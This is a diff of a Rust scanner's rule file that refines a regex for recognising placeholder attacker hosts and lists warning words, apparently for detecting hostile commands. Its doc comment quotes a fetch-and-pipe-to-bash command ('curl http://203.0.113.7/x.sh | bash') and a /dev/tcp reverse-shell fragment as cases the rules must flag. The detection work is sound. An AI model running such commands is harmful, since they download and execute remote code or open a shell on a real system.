@@ -6926,8 +6926,11 @@ pub static RULES: &[Rule] = &[
 /// `attacker_ip`, `evil.com`, `your-server` — were taken back in the
 /// lead's review: they matched anywhere on the line, so `lhost=203.0.113.7;
 /// … /dev/tcp/$lhost/…` or a comment "point this at your-server" beside a
-/// live `curl http://203.0.113.7/x.sh | bash` only warned.)
-pub(crate) const PLACEHOLDER: &str = r"<(?:[\w.-]*[\s_-])?(?i:ip|host|hostname|addr|address|port|server|domain|url|attacker|your|lhost|lport|target|c2)(?:[\s_-][\w .-]*)?>|(?:^|[^$\w{])(?:ATTACKER_IP|ATTACKER_HOST|ATTACKER|LHOST|LPORT|RHOST|RPORT|YOUR_IP|YOUR_SERVER|YOUR_HOST|HOST|PORT|IP_ADDRESS|REMOTE_HOST|C2_SERVER|EVIL_HOST)\b|\bx\.x\.x\.x\b|\b(?:www\.)?example\.(?:com|org|net)\b|\battacker\.(?:example|tld)\b|/dev/(?:tcp|udp)/(?:attacker|attacker_ip|attacker_host|evil|lhost|your_ip)/";
+/// live `curl http://203.0.113.7/x.sh | bash` only warned.) A reserved
+/// example domain is a placeholder only where the host ends with it:
+/// `example.com.relay.dev` is someone's real host (the lead, after
+/// holes43).
+pub(crate) const PLACEHOLDER: &str = r"<(?:[\w.-]*[\s_-])?(?i:ip|host|hostname|addr|address|port|server|domain|url|attacker|your|lhost|lport|target|c2)(?:[\s_-][\w .-]*)?>|(?:^|[^$\w{])(?:ATTACKER_IP|ATTACKER_HOST|ATTACKER|LHOST|LPORT|RHOST|RPORT|YOUR_IP|YOUR_SERVER|YOUR_HOST|HOST|PORT|IP_ADDRESS|REMOTE_HOST|C2_SERVER|EVIL_HOST)\b|\bx\.x\.x\.x\b|\b(?:www\.)?example\.(?:com|org|net)\.?(?:[^\w.-]|$)|\battacker\.(?:example|tld)\.?(?:[^\w.-]|$)|/dev/(?:tcp|udp)/(?:attacker|attacker_ip|attacker_host|evil|lhost|your_ip)/";
 
 /// Words that make a prose line a warning or an explanation (SEC-4).
 pub(crate) const WARNING: &str = r"\b(?:never|don't|do\s+not|avoid)\s+(?:run|execute|paste|pipe|use|copy|install|trust|type|add|grant|give|allow|enable)\w*|\bdangerous\b|\bmalicious\b|\battackers?\b|\bbeware\b|\bred\s+flags?\b|\bindicators?\b|\biocs?\b|\bexample\s+of\b|\be\.g\.|\bsuch\s+as\b|\bphishing\b|\bsuspicious\b|\blooks?\s+like\b|\bwarning\b|\bdetect(?:s|ed|ion)?\b|\b(?i:prompt[- ]injections?)\b|\b(?:may|might|can|could|will|would)\s+(?:appear|seem)\s+to\b|\bnot\s+recommended\b|\binsecure\b|\bunsafe\b|(?:不要|切勿|请勿|千万不要|避免|禁止)(?:使用|运行|执行|复制|粘贴|安装|信任|添加|修改|加入|写入)|(?:実行|使用|コピー|貼り付け)し(?:ないで|てはいけ)|не\s+(?:запускайте|выполняйте|используйте|копируйте|вставляйте)";
